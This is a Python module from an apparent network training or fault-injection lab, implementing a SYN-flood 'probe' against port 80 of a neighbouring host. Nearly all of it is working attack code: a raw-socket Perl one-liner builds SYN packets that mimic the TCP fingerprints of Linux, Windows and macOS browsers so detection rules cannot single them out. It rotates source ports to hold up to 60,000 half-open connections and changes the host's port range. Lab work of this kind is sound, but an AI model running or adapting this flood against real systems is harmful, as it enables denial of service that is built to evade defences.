"""Probe: a flood of SYNs that look like those of browsers, and get no ACK. Source: RFC 9293.

hping3 sends SYNs that no browser sends, so a rule could tell them from those of users. Here the
kernel makes the IP header, as it does for users, and a script makes the TCP header.
"""

from random import Random

from faultlab.core.errors import CannotRun
from faultlab.engine.shell import Shell
from faultlab.probes import hping3

# Window and options of a first SYN: Linux, Windows, macOS, and one without any option.
_KINDS = (
    "64240 020405b40402080a@0000000001030307",
    "64240 020405b40103030801010402",
    "65535 020405b4010303060101080a@0000000004020000",
    "1024 ",
)
_PORTS, _OTHERS = range(1024, 65024), 4000  # ports to send from, and those left to other programs
_NUMBER = "/tmp/flood"  # where the number of the process is
# The checksum is the sum of all words, so those that do not change are added only once.
_FLOOD = r"""perl -MSocket -MTime::HiRes=time,sleep -e '
my ($to, $from, $rate, $seconds, $first, $free, $taken, @kinds) = @ARGV;
sub words { my $sum = 0; $sum += $_ for unpack "n*", shift; $sum }
@kinds = map {
  my ($window, $options) = split / /, $_, 2;
  $options =~ s/@/sprintf "%08x", rand 2 ** 32/e;
  $options = pack "H*", $options;
  my $length = 20 + length $options;
  my $flags = pack "CCn", $length << 2, 2, $window;
  [$flags, $options, words($flags . $options)
    + words(inet_aton($from) . inet_aton($to) . pack "nn", 6, $length)]
} @kinds;
socket my $raw, AF_INET, SOCK_RAW, 6 or die "socket: $!";
connect $raw, pack_sockaddr_in 0, inet_aton $to or die "connect: $!";
my ($began, $port, $sent, $over) = (time, int rand $free, 0, 0);
$SIG{INT} = sub { $over = 1 };
while (!$over and (my $now = time) < $began + $seconds) {
  for (1 .. ($now - $began) * $rate - $sent) {
    my ($flags, $options, $sum) = @{$kinds[rand @kinds]};
    my $source = 1024 + $port++ % $free;
    $source += $taken if $source >= $first;
    my $start = pack "nnNN", $source, 80, rand 2 ** 32, 0;
    $sum += words $start;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    send $raw, $start . $flags . pack("nn", ~$sum & 0xffff, 0) . $options, 0;
    $sent++;
    last if $over;
  }
  sleep 0.002;
}
print "$sent\n"' """


def flood(machine: Shell, host: str, *, owner: Shell, dice: Random, rate: int, seconds: int) -> int:
    """Send `rate` SYNs a second to port 80 of a neighbour, until `end` or for `seconds`.

    Return how many were sent. Each flood draws how its SYNs look: like those of two systems. Their
    ports follow each other, so it can hold at most 60,000 connections half open. Other programs
    there get drawn ports of their own, because a user with the port of a half-open connection would
    get the SYN-ACK of that one. `owner`: the machine, which may change its own settings.
    Raises CannotRun, before anything is sent, if the route to `host` leads through a router.
    """
    address, own = hping3.neighbour(machine, host)
    kinds = " ".join(f"'{kind}'" for kind in dice.sample(_KINDS, 2))
    first, free = dice.randrange(_PORTS.start, _PORTS.stop - _OTHERS), len(_PORTS) - _OTHERS
    # No program of the machine: a learner can have put another one in its place.
    owner.must(f"echo {first} {first + _OTHERS - 1} >/proc/sys/net/ipv4/ip_local_port_range")
    facts = f"{address} {own} {rate} {seconds} {first} {free} {_OTHERS}"
    command = f"echo $$ >{_NUMBER}; exec {_FLOOD} {facts} {kinds}"
    done = machine.run(command, timeout=seconds + 20)
    if not done.out.strip().isdigit():
        raise CannotRun(f"The crowd sent nothing: {(done.err or done.out).strip()[-200:]}")
    return int(done.out)


def end(machine: Shell) -> None:
    """End the flood of this machine."""
    hping3.end_flood(machine)
